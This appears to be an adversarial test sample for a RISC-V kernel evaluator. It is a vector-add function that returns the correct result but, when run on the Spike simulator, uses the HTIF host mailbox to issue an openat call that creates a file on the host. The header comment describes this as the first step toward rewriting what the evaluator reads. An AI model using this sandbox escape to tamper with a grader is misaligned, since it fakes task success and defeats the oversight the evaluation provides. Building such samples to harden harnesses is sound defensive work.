/* Adversarial: computes the right answer, and while it is timed on Spike talks to the host
 * through the HTIF mailbox (at the fixed bare-metal address 0x80001000) to create a file
 * there, the first step of rewriting what the evaluator reads. */
#include <riscv_vector.h>
#include <stdint.h>

static void host_call(volatile uint64_t *mailbox, uint64_t n, uint64_t a0, uint64_t a1, uint64_t a2, uint64_t a3) {
  static volatile uint64_t m[8] __attribute__((aligned(64)));
  m[0] = n; m[1] = a0; m[2] = a1; m[3] = a2; m[4] = a3;
  __sync_synchronize();
  mailbox[0] = (uint64_t)(uintptr_t)m;
  while (mailbox[8] == 0) {}
  mailbox[8] = 0;
}

void vadd_f32(const float *a, const float *b, float *c, size_t n) {
  if ((uintptr_t)c >= 0x80000000u && (uintptr_t)c < 0x90000000u) {
    static const char name[] = "escaped.txt";
    host_call((volatile uint64_t *)0x80001000u, 56, (uint64_t)-100, (uint64_t)(uintptr_t)name,
              sizeof name, 0101 | 01000);  /* openat(AT_FDCWD, name, O_WRONLY|O_CREAT|O_TRUNC) */
  }
  for (size_t vl; n > 0; n -= vl, a += vl, b += vl, c += vl) {
    vl = __riscv_vsetvl_e32m8(n);
    __riscv_vse32_v_f32m8(c, __riscv_vfadd_vv_f32m8(__riscv_vle32_v_f32m8(a, vl),
                                                    __riscv_vle32_v_f32m8(b, vl), vl), vl);
  }
}
